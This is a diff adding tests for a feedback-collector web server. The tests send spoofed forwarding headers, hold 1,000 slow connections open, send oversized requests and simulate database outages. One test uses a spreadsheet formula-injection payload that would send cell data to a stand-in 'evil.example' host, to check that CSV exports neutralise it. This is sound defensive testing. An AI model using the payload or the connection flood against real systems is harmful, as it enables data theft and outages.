@@ -1,12 +1,23 @@
-"""The feedback collector: the real FastAPI app (TestClient, no mocks) on SQLite and, when
-DEFLECT_TEST_POSTGRES_URL is set, PostgreSQL (a fresh schema per test); `deflect feedback`; fuzzing."""
+"""The feedback collector: the real FastAPI app (TestClient, no mocks) and the real `deflect serve`
+(uvicorn on a free loopback port, raw sockets) on SQLite and, when DEFLECT_TEST_POSTGRES_URL is set,
+PostgreSQL (a fresh schema per test); `deflect feedback`; fuzzing."""
 
 from __future__ import annotations
 
+import csv
+import http.client
+import io
 import json
 import os
+import socket
+import subprocess
+import sys
 import tempfile
+import threading
+import time
 import uuid
+from collections.abc import Iterator
+from contextlib import contextmanager
 from pathlib import Path
 from urllib.parse import quote
 
@@ -18,7 +29,7 @@ from fastapi.testclient import TestClient  # noqa: E402
 
 from deflect.cli import main  # noqa: E402
 from deflect.collector.app import create_app  # noqa: E402
-from deflect.collector.store import Store  # noqa: E402
+from deflect.collector.store import DatabaseURLError, Store, sqlite_path  # noqa: E402
 
 PG_URL = os.environ.get("DEFLECT_TEST_POSTGRES_URL")
 SITE = "https://help.example.com"
@@ -347,6 +358,382 @@ def test_trends_weekly(store, db_url, tmp_path):
 def test_feedback_missing_db(tmp_path):
     result = CliRunner().invoke(main, ["feedback", "--db", f"sqlite:///{tmp_path / 'none.db'}"])
     assert result.exit_code != 0 and "no feedback database" in result.output
+
+
+# ------------------------------------------------------------------ the real server
+# `deflect serve` in a child process on a free loopback port, spoken to over real sockets.
+
+
+def _free_port() -> int:
+    with socket.socket() as s:
+        s.bind(("127.0.0.1", 0))
+        return s.getsockname()[1]
+
+
+def _http(port: int, method: str, path: str, body: bytes | dict | None = None, headers: dict | None = None,
+          timeout: float = 10) -> tuple[int, dict[str, str], bytes]:
+    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=timeout)
+    try:
+        data = json.dumps(body).encode() if isinstance(body, dict) else body
+        conn.request(method, path, body=data, headers={"Content-Type": "application/json", **(headers or {})})
+        response = conn.getresponse()
+        return response.status, {k.lower(): v for k, v in response.getheaders()}, response.read()
+    finally:
+        conn.close()
+
+
+@contextmanager
+def running_server(db_url: str, *options: str, open_files: int | None = None) -> Iterator[int]:
+    """``deflect serve --db DB_URL OPTIONS`` on a free port; yields the port once /healthz answers.
+    ``open_files``: the server's hard limit on open files (as ``ulimit -n`` sets it)."""
+    import resource
+
+    port = _free_port()
+    log = tempfile.TemporaryFile()  # not a pipe: a server that logs a lot must never block on it
+    limit = (lambda: resource.setrlimit(resource.RLIMIT_NOFILE, (open_files, open_files))) if open_files else None
+    proc = subprocess.Popen([sys.executable, "-m", "deflect.cli", "serve", "--db", db_url, "--port", str(port),
+                             *options], env=dict(os.environ, NO_MKDOCS_2_WARNING="1"), stderr=log,
+                            preexec_fn=limit)
+    try:
+        deadline = time.monotonic() + 30
+        while True:
+            try:
+                if _http(port, "GET", "/healthz", timeout=1)[0] == 200:
+                    break
+            except OSError:
+                pass
+            if proc.poll() is not None or time.monotonic() > deadline:
+                log.seek(0)
+                raise AssertionError(f"deflect serve did not start: {log.read().decode()[-2000:]}")
+            time.sleep(0.1)
+        yield port
+    finally:
+        proc.terminate()
+        try:
+            proc.wait(10)
+        except subprocess.TimeoutExpired:
+            proc.kill()
+            proc.wait()
+        log.close()
+
+
+def test_spoofed_forwarded_for_does_not_bypass_the_rate_limit(db_url):
+    with running_server(db_url, "--rate-limit", "0.5", "--burst", "5") as port:
+        codes = [_http(port, "POST", "/api/votes", vote(voter=f"reader-{i:04}"),
+                       {"X-Forwarded-For": f"198.51.100.{i}"})[0] for i in range(40)]
+    assert codes[:5] == [201] * 5
+    assert codes.count(201) <= 7 and codes.count(429) >= 33, codes
+
+
+def test_trusted_proxy_gives_each_client_its_bucket(db_url):
+    with running_server(db_url, "--rate-limit", "0.5", "--burst", "5", "--forwarded-allow-ips",
+                        "10.0.0.0/8,127.0.0.1") as port:
+        # Six clients behind the proxy, five votes each: every client stays within its own burst.
+        codes = [_http(port, "POST", "/api/votes", vote(voter=f"reader-{c}-{i:04}"),
+                       {"X-Forwarded-For": f"203.0.113.{c}, 10.1.2.3"})[0] for c in range(6) for i in range(5)]
+        assert codes == [201] * 30
+        # A client that makes up addresses on the left of the chain still gets its own (right-most
+        # untrusted) address's bucket, already used up by client 0.
+        spoofed = [_http(port, "POST", "/api/votes", vote(voter=f"spoofer-{i:04}"),
+                         {"X-Forwarded-For": f"192.0.2.{i}, 203.0.113.0"})[0] for i in range(10)]
+        assert spoofed.count(429) >= 8, spoofed
+
+
+def _open_idle(port: int, kind: str) -> socket.socket:
+    s = socket.create_connection(("127.0.0.1", port), timeout=5)
+    if kind == "headers":  # a request whose headers never end
+        s.sendall(b"POST /api/votes HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nX-Slow: ")
+    elif kind == "body":  # complete headers, a body that never ends
+        s.sendall(b"POST /api/votes HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
+                  b"Content-Length: 400\r\n\r\n{\"article\": ")
+    return s
+
+
+def _closed_by_server(s: socket.socket) -> bool:
+    s.settimeout(0)
+    try:
+        while True:
+            data = s.recv(4096)
+            if not data:
+                return True
+    except BlockingIOError:
+        return False
+    except OSError:
+        return True
+
+
+@pytest.mark.slow
+def test_votes_are_accepted_while_1000_slow_clients_hold_connections(db_url):
+    """1,000 connections that never finish their headers or body, against a server allowed 1,000 open
+    files (a common default): without timeouts and a cap they use up its file descriptors and no vote
+    gets in; with them, votes are answered at once and every slow connection is closed within the timeouts."""
+    import resource
+
+    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+    if soft < 1500:
+        resource.setrlimit(resource.RLIMIT_NOFILE, (min(4096, hard), hard))
+    idle: list[socket.socket] = []
+    with running_server(db_url, "--rate-limit", "0", "--header-timeout", "3", "--body-timeout", "3",
+                        open_files=1000) as port:
+        try:
+            opened = time.monotonic()
+            for i in range(1000):
+                idle.append(_open_idle(port, ("connect", "headers", "body")[i % 3]))
+            latencies = []
+            for i in range(30):
+                t0 = time.monotonic()
+                status, _, _ = _http(port, "POST", "/api/votes", vote(voter=f"reader-{i:04}"), timeout=10)
+                latencies.append(time.monotonic() - t0)
+                assert status == 201
+            assert max(latencies) < 2.0, latencies
+            # The slow clients' connections are all closed by the server within the timeouts (or evicted
+            # by the votes over the connection cap), none left hanging.
+            time.sleep(max(0.0, opened + 3 + 1.5 - time.monotonic()))
+            deadline = time.monotonic() + 5
+            while (still := sum(not _closed_by_server(s) for s in idle)) and time.monotonic() < deadline:
+                time.sleep(0.5)
+            assert still == 0, f"{still} slow connections still open"
+            assert _http(port, "POST", "/api/votes", vote(voter="reader-last"))[0] == 201
+        finally:
+            for s in idle:
+                s.close()
+    store = Store(db_url)
+    try:
+        assert store.count("votes") == 31
+    finally:
+        store.close()
+
+
+def test_slow_and_oversized_requests_are_cut(db_url):
+    with running_server(db_url, "--rate-limit", "0", "--header-timeout", "1", "--max-connections", "40") as port:
+        # Headers that never end: 431 once they pass the header size cap.
+        with socket.create_connection(("127.0.0.1", port), timeout=10) as s:
+            s.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\n" + b"X-Pad: " + b"a" * 40_000)
+            assert s.recv(4096).startswith(b"HTTP/1.1 431")
+        # Headers that trickle: 408 and closed after the header timeout.
+        with socket.create_connection(("127.0.0.1", port), timeout=10) as s:
+            s.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\n")
+            t0 = time.monotonic()
+            assert s.recv(4096).startswith(b"HTTP/1.1 408") and s.recv(4096) == b""
+            assert 0.9 < time.monotonic() - t0 < 4
+        # The cap full of unfinished bodies: a vote still gets in, in place of the slowest of them.
+        stuck = [_open_idle(port, "body") for _ in range(40)]
+        try:
+            time.sleep(1.5)
+            assert _http(port, "POST", "/api/votes", vote())[0] == 201
+            assert sum(_closed_by_server(s) for s in stuck) >= 1
+        finally:
+            for s in stuck:
+                s.close()
+
+
+@pytest.mark.parametrize("connection", ["keep-alive", "close"])
+def test_413_reaches_a_client_sending_a_big_body(db_url, connection):
+    body = b"x" * (8 * 1024 * 1024)
+    with running_server(db_url, "--rate-limit", "0") as port:
+        for _ in range(3):
+            with socket.create_connection(("127.0.0.1", port), timeout=10) as s:
+                s.sendall(b"POST /api/votes HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
+                          b"Connection: %s\r\nContent-Length: %d\r\n\r\n" % (connection.encode(), len(body)))
+                s.sendall(body)  # a reset would raise here or in recv
+                head = s.recv(4096)
+            assert head.startswith(b"HTTP/1.1 413"), head
+        assert _http(port, "POST", "/api/votes", vote())[0] == 201  # and the server carries on
+
+
+class TcpProxy:
+    """A TCP forwarder in front of PostgreSQL that a test can cut (every connection closed, nothing listening)
+    and restore on the same port: the database becomes unreachable for real, as after a network failure."""
+
+    def __init__(self, target: tuple[str, int]):
+        self.target, self.port = target, _free_port()
+        self._sockets: list[socket.socket] = []
+        self._listener: socket.socket | None = None
+
+    def start(self) -> None:
+        listener = socket.socket()
+        listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+        listener.bind(("127.0.0.1", self.port))
+        listener.listen(64)
+        self._listener = listener
+        threading.Thread(target=self._accept, args=(listener,), daemon=True).start()
+
+    def _accept(self, listener: socket.socket) -> None:
+        while True:
+            try:
+                client, _ = listener.accept()
+            except OSError:
+                return
+            server = socket.create_connection(self.target)
+            self._sockets += [client, server]
+            for a, b in ((client, server), (server, client)):
+                threading.Thread(target=self._pump, args=(a, b), daemon=True).start()
+
+    @staticmethod
+    def _pump(a: socket.socket, b: socket.socket) -> None:
+        try:
+            while data := a.recv(65536):
+                b.sendall(data)
+        except OSError:
+            pass
+        for s in (a, b):
+            try:
+                s.shutdown(socket.SHUT_RDWR)
+            except OSError:
+                pass
+
+    def cut(self) -> None:
+        if self._listener is not None:
+            try:
+                self._listener.shutdown(socket.SHUT_RDWR)  # wakes the blocked accept() (close alone does not)
+            except OSError:
+                pass
+            self._listener.close()
+            self._listener = None
+        for s in self._sockets:
+            try:
+                s.shutdown(socket.SHUT_RDWR)
+                s.close()
+            except OSError:
+                pass
+        self._sockets.clear()
+
+
+def _assert_503(port: int) -> None:
+    for path, body in (("/api/votes", vote(voter="reader-down")), ("/api/events", {"type": "pageview", "page": "/en/"})):
+        status, headers, payload = _http(port, "POST", path, body)
+        assert status == 503, (path, status, payload)
+        assert int(headers["retry-after"]) > 0
+    assert _http(port, "GET", "/healthz")[0] == 503
+
+
+def test_database_down_gives_503_with_retry_after(db_url, tmp_path):
+    if db_url.startswith("sqlite"):
+        with running_server(db_url, "--rate-limit", "0") as port:
+            assert _http(port, "POST", "/api/votes", vote())[0] == 201
+            path = sqlite_path(db_url)
+            for suffix in ("", "-wal", "-shm"):  # corrupt the file the server has open, in place
+                if os.path.exists(path + suffix):
+                    with open(path + suffix, "r+b") as f:
+                        f.write(b"\x5a" * os.path.getsize(path + suffix))
+            _assert_503(port)
+        return
+    from urllib.parse import urlsplit
+
+    import psycopg
+
+    parts = urlsplit(db_url)
+    proxy = TcpProxy((parts.hostname or "127.0.0.1", parts.port or 5432))
+    proxy.start()
+    app_name = "deflect-test-" + uuid.uuid4().hex[:10]
+    url = parts._replace(netloc=f"{parts.username}:{parts.password}@127.0.0.1:{proxy.port}").geturl()
+    url += f"&application_name={app_name}"
+    try:
+        with running_server(url, "--rate-limit", "0") as port:
+            assert _http(port, "POST", "/api/votes", vote())[0] == 201
+            # The server ends the collector's sessions: the next request reconnects once and succeeds.
+            with psycopg.connect(PG_URL, autocommit=True) as admin:
+                killed = admin.execute("SELECT COUNT(pg_terminate_backend(pid)) FROM pg_stat_activity "
+                                       "WHERE application_name = %s", (app_name,)).fetchone()[0]
+            assert killed >= 1
+            assert _http(port, "POST", "/api/votes", vote(voter="reader-0002"))[0] == 201
+            # PostgreSQL becomes unreachable: 503 with Retry-After, never a 500 or a reset.
+            proxy.cut()
+            _assert_503(port)
+            # Back again: requests succeed once Retry-After has passed.
+            proxy.start()
+            deadline = time.monotonic() + 15
+            while _http(port, "POST", "/api/votes", vote(voter="reader-0003"))[0] != 201:
+                assert time.monotonic() < deadline, "the collector did not recover"
+                time.sleep(0.5)
+    finally:
+        proxy.cut()
+
+
+def test_feedback_csv_neutralises_formulas(client, store, db_url):
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"Click for help")'
+    client.post("/api/votes", json=vote(helpful=False, reason="unclear", comment=formula))
+    client.post("/api/votes", json=vote(article="@SUM(1)/", voter="reader-0002", helpful=False, comment="-2+3"))
+    result = CliRunner().invoke(main, ["feedback", "--db", db_url, "--csv"])
+    assert result.exit_code == 0, result.output
+    rows = {r["article"]: r for r in csv.DictReader(io.StringIO(result.output))}
+    assert rows["en/account/reset-password/"]["latest_comment"] == "'" + formula
+    assert rows["'@SUM(1)/"]["latest_comment"] == "'-2+3"
+    assert rows["en/account/reset-password/"]["votes"] == "1"  # numbers stay numbers
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_spreadsheet_cell_guard(start):
+    from deflect.spreadsheet import spreadsheet_cell, to_csv
+
+    assert spreadsheet_cell(start + "1+1") == "'" + start + "1+1"
+    assert spreadsheet_cell(-3.5) == -3.5 and spreadsheet_cell("a=b") == "a=b" and spreadsheet_cell(None) == ""
+    assert next(csv.reader(io.StringIO(to_csv(["h"], [[start + "cmd"]])).readlines()[1:]))[0] == "'" + start + "cmd"
+
+
+def test_every_report_csv_goes_through_the_one_guard():
+    """Report CSV is written only by deflect.spreadsheet; the other csv.writer calls stage data for DuckDB."""
+    root = Path(__file__).resolve().parents[1] / "plugins" / "deflect"
+    writers = [(path.relative_to(root).as_posix(), line) for path in root.rglob("*.py")
+               for line in path.read_text(encoding="utf-8").splitlines() if "csv.writer(" in line]
+    assert ("spreadsheet.py", "    writer = csv.writer(out)") in writers
+    others = [(p, line) for p, line in writers if p != "spreadsheet.py"]
+    assert others and all("staging for DuckDB" in line for _, line in others), others
+    from deflect.insights import report as insights_report
+
+    assert insights_report.to_csv is __import__("deflect.spreadsheet", fromlist=["to_csv"]).to_csv
+
+
+BAD_URLS = {
+    "mysql://user:pw@localhost/feedback": "unsupported database URL scheme 'mysql://'",
+    "postgresql+psycopg://user@localhost/feedback": "unsupported database URL scheme 'postgresql+psycopg://'",
+    "feedback": "is not a database URL",
+    "sqlite:///feedback.db?synchronous=bogus": "synchronous='bogus'",
+    "sqlite:///feedback.db?journal=wal": "unknown option 'journal'",
+    "postgresql://user@localhost/feedback?bogus=1": "bad PostgreSQL URL",
+}
+
+
+def _one_line_error(result_output: str, exit_code: int, expected: str) -> None:
+    assert exit_code != 0, result_output
+    lines = [line for line in result_output.splitlines() if line.strip()]
+    assert len(lines) == 1 and lines[0].startswith("Error: ") and expected in lines[0], result_output
+    assert "Traceback" not in result_output
+
+
+@pytest.mark.parametrize("url", list(BAD_URLS))
+@pytest.mark.parametrize("command", ["serve", "feedback"])
+def test_bad_database_url_is_a_clear_error_and_creates_nothing(url, command, tmp_path, monkeypatch):
+    monkeypatch.chdir(tmp_path)
+    result = CliRunner().invoke(main, [command, "--db", url])
+    _one_line_error(result.output, result.exit_code, BAD_URLS[url])
+    if "scheme" in BAD_URLS[url] or "not a database URL" in BAD_URLS[url]:
+        assert "sqlite:///" in result.output and "postgresql://" in result.output
+    assert list(tmp_path.iterdir()) == []  # no stray SQLite file
+    with pytest.raises(DatabaseURLError):
+        Store(url)
+
+
+def _unusable_databases(tmp_path: Path) -> dict[str, tuple[str, str]]:
+    corrupt = tmp_path / "corrupt.db"
+    corrupt.write_bytes(b"this is not a SQLite database, just bytes " * 100)
+    return {
+        "corrupt": (f"sqlite:///{corrupt}", "file is not a database"),
+        "refused": (f"postgresql://deflect:secret@127.0.0.1:{_free_port()}/deflect", "Connection refused"),
+        "synchronous": (f"sqlite:///{tmp_path / 'x.db'}?synchronous=bogus", "synchronous='bogus'"),
+    }
+
+
+@pytest.mark.parametrize("case", ["corrupt", "refused", "synchronous"])
+def test_unusable_database_is_one_line_error(case, tmp_path):
+    url, expected = _unusable_databases(tmp_path)[case]
+    result = CliRunner().invoke(main, ["feedback", "--db", url])
+    _one_line_error(result.output, result.exit_code, expected)
+    assert "secret" not in result.output  # the password is not echoed
+    # `deflect serve` as a real process: the error on stderr, exit 1, no traceback, nothing served.
+    proc = subprocess.run([sys.executable, "-m", "deflect.cli", "serve", "--db", url, "--port", str(_free_port())],
+                          capture_output=True, text=True, timeout=60, env=dict(os.environ, NO_MKDOCS_2_WARNING="1"))
+    _one_line_error(proc.stderr, proc.returncode, expected)
 
 
 # ---------------------------------------------------------------------------- fuzz
